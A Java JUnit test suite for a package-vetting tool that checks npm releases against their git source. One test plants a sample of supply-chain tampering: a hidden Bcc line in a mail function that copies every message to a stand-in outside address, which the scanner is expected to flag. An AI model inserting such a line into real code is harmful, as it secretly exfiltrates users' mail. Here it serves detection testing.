package dev.assay.registry.vetting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.assay.inventory.release.Release;
import dev.assay.inventory.release.ReleaseState;
import dev.assay.registry.workflow.DecisionOutcome;
import dev.assay.samples.SampleGitHost;
import dev.assay.samples.SamplePackage;
import dev.assay.samples.SampleUpstream;
import dev.assay.scanners.finding.Finding;
import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.finding.Severity;
import dev.assay.scanners.source.SourceOutcome;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;

/** Packages beside the repositories that they name, on a loopback git host. */
@TestInstance(Lifecycle.PER_CLASS)
@Timeout(180)
class SourceVettingTest {

    private static final String BCC = "Bcc: 'archive@giftshop.example',";

    private SampleUpstream npm;
    private SampleGitHost git;
    private VettingRig rig;

    @BeforeAll
    void start(@TempDir Path data) throws Exception {
        assumeTrue(SampleGitHost.isPossible(), "no git on this machine");
        npm = SampleUpstream.start();
        git = SampleGitHost.start();
        rig =
                VettingRig.start(
                        data, npm.url(), "assay.upstream.git.hosts[git.example.com]=" + git.url());
    }

    @AfterAll
    void stop() {
        if (rig != null) {
            rig.close();
            git.close();
            npm.close();
        }
    }

    /** A mail server whose manifest names its repository. */
    private static Map<String, String> files(String name, String version) {
        return Map.of(
                "package.json",
                """
                {
                  "name": "%s",
                  "version": "%s",
                  "main": "lib/mail.js",
                  "repository": { "type": "git", "url": "git+https://git.example.com/team/%s.git" }
                }
                """
                        .formatted(name, version, name),
                "lib/mail.js",
                """
                export async function send({ to, subject, text }) {
                  const message = {
                    To: to,
                    Subject: subject,
                    TextBody: text,
                  };
                  return fetch('https://api.mail.example/email', {
                    method: 'POST',
                    body: JSON.stringify(message),
                  });
                }
                """);
    }

    private static Map<String, String> with(Map<String, String> files, String path, String text) {
        var more = new HashMap<>(files);
        more.put(path, text);
        return more;
    }

    private Release vetted(String name, String version) throws Exception {
        var release = rig.vet("npm:" + name + "@" + version);
        assertThat(release.state()).as(release.toString()).isEqualTo(ReleaseState.IN_REVIEW);
        return release;
    }

    private SourceOutcome outcome(Release release) {
        return rig.get(Sources.class).of(release.id()).orElseThrow();
    }

    private List<Finding> findings(Release release) {
        return Objects.requireNonNull(rig.report(release.id()).delta()).findings();
    }

    @Test
    void pointsAtTheOneLineThatIsInThePackageAndInNoCommit() throws Exception {
        var first = files("copied-mail", "1.0.0");
        var second = files("copied-mail", "1.0.1");
        git.annotate("team/copied-mail", "v1.0.0", git.commit("team/copied-mail", first));
        git.annotate("team/copied-mail", "v1.0.1", git.commit("team/copied-mail", second));
        npm.publish(SamplePackage.of(first));
        npm.publish(
                SamplePackage.of(
                        with(
                                second,
                                "lib/mail.js",
                                Objects.requireNonNull(second.get("lib/mail.js"))
                                        .replace("To: to,\n", "To: to,\n    " + BCC + "\n"))));

        var clean = vetted("copied-mail", "1.0.0");
        assertThat(outcome(clean))
                .isInstanceOfSatisfying(
                        SourceOutcome.Compared.class,
                        compared -> {
                            assertThat(compared.comparison().matches()).isTrue();
                            assertThat(compared.comparison().foundBy()).isEqualTo("tag v1.0.0");
                        });
        assertThat(rig.approve(clean.id())).isInstanceOf(DecisionOutcome.Decided.class);

        var hostile = vetted("copied-mail", "1.0.1");

        assertThat(findings(hostile))
                .filteredOn(finding -> finding.kind() == FindingKind.UNSOURCED_FUNCTION)
                .singleElement()
                .satisfies(
                        finding -> {
                            assertThat(finding.severity()).isEqualTo(Severity.HIGH);
                            assertThat(finding.evidence().getFirst().file())
                                    .isEqualTo("lib/mail.js");
                            assertThat(finding.evidence().getFirst().line()).isEqualTo(4);
                            assertThat(finding.evidence().getFirst().excerpt()).isEqualTo(BCC);
                        });
        assertThat(findings(hostile))
                .filteredOn(finding -> finding.kind() == FindingKind.SOURCE_LOST)
                .singleElement()
                .extracting(Finding::severity)
                .isEqualTo(Severity.HIGH);
    }

    @Test
    void fetchesACommitOnceForAllThatIsMadeOfIt() throws Exception {
        var one = files("kept-mail", "1.0.0");
        var commit = git.commit("team/kept-mail", one);
        git.tag("team/kept-mail", "v1.0.0", commit);
        git.tag("team/kept-mail", "v1.0.1", commit);
        npm.publish(SamplePackage.of(one));
        npm.publish(SamplePackage.of(files("kept-mail", "1.0.1")));

        vetted("kept-mail", "1.0.0");
        var packs = packs("kept-mail");
        var second = vetted("kept-mail", "1.0.1");

        assertThat(outcome(second)).isInstanceOf(SourceOutcome.Compared.class);
        // The list of tags is asked for, which says what v1.0.1 is; the commit is not.
        assertThat(packs("kept-mail") - packs).isLessThanOrEqualTo(1);
    }

    private long packs(String name) {
        return git.requests().stream()
                .filter(each -> each.contains("/" + name))
                .filter(each -> each.endsWith("git-upload-pack"))
                .count();
    }

    @Test
    void saysWhichTagsItTriedWhereThereIsNone() throws Exception {
        git.commit("team/untagged-mail", files("untagged-mail", "1.0.0"));
        npm.publish(SamplePackage.of(files("untagged-mail", "1.0.0")));

        var release = vetted("untagged-mail", "1.0.0");

        assertThat(outcome(release).summary()).contains("tag v1.0.0", "tag untagged-mail@1.0.0");
        assertThat(findings(release))
                .filteredOn(finding -> finding.kind() == FindingKind.SOURCE_VERSION)
                .singleElement()
                .extracting(Finding::severity)
                .isEqualTo(Severity.LOW);
    }

    @Test
    void namesEveryOtherWayToLearnNothing() throws Exception {
        npm.publish(SamplePackage.bare("no-source", "1.0.0", Map.of()));
        var elsewhere = files("elsewhere", "1.0.0");
        npm.publish(
                SamplePackage.of(
                        with(
                                elsewhere,
                                "package.json",
                                Objects.requireNonNull(elsewhere.get("package.json"))
                                        .replace("git.example.com", "git.other.example"))));
        npm.publish(SamplePackage.of(files("gone", "1.0.0")));

        assertThat(outcome(vetted("no-source", "1.0.0")).state()).isEqualTo("no repository");
        assertThat(outcome(vetted("elsewhere", "1.0.0")))
                .isInstanceOf(SourceOutcome.NotAllowed.class)
                .extracting(SourceOutcome::summary)
                .asString()
                .contains("assay.upstream.git.hosts[git.other.example]");
        assertThat(outcome(vetted("gone", "1.0.0")).state()).isEqualTo("not reachable");
    }

    @Test
    void fetchesNothingWhereACompanySwitchedItOff(@TempDir Path data) throws Exception {
        npm.publish(SamplePackage.of(files("unwanted", "1.0.0")));
        try (var other =
                VettingRig.start(
                        data,
                        npm.url(),
                        "assay.source.enabled=false",
                        "assay.upstream.git.hosts[git.example.com]=" + git.url())) {
            var release = other.vet("npm:unwanted@1.0.0");

            assertThat(other.get(Sources.class).of(release.id()).orElseThrow().state())
                    .isEqualTo("switched off");
            assertThat(git.requests()).noneMatch(each -> each.contains("unwanted"));
        }
    }
}
